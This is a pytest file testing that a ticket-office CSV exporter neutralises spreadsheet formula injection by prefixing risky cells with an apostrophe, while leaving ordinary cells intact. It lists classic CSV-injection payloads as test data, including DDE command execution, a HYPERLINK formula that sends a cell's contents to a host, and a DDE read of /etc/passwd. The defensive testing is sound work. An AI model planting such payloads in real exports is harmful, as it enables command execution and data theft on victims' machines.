"""A CSV file that leaves the desk: everything comes back as it was, and no spreadsheet finds a formula in it."""

import csv
import io

import pytest

from ticketoffice.desk.csv_text import csv_bytes

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=WEBSERVICE("http://example.org")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "+41 79 123 45 67",
]
"""Each is run, or changed into a number, by one spreadsheet or another when a cell begins with it."""


def read(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str) -> None:
    (row,) = read(csv_bytes(["=", "=", "="], [["Keller", cell, "30.00"]]))[1:]
    assert row[1].startswith("'") and row[0::2] == ["Keller", "30.00"]
    assert row[1].replace("'", "") == cell.replace("\x00", "").replace("'", "")


@pytest.mark.parametrize(
    "cell", ["", "Keller", "Anne-Marie", "30.00", 'say "no"', "a,b;c", "two\nlines", "Zoë 東京", "a=b", "30,-", "'"]
)
def test_all_else_comes_back_as_it_was(cell: str) -> None:
    text = csv_bytes(["Name", "Note"], [[cell, "x"]])
    assert text.startswith("\ufeffName,Note\r\n".encode())
    assert read(text) == [["Name", "Note"], [cell, "x"]]


@pytest.mark.parametrize("separator", [";", ",", "\t", "\n", "; "])
def test_a_machine_with_another_separator_finds_no_formula_either(separator: str) -> None:
    (row,) = read(csv_bytes(["Note"], [[f"a{separator}=1+1"]]))[1:]
    assert "'" in row[0] and row[0].replace("'", "") == f"a{separator}=1+1"


def test_a_title_is_a_cell_too() -> None:
    assert read(csv_bytes(["=1+1"], [])) == [["'=1+1"]]
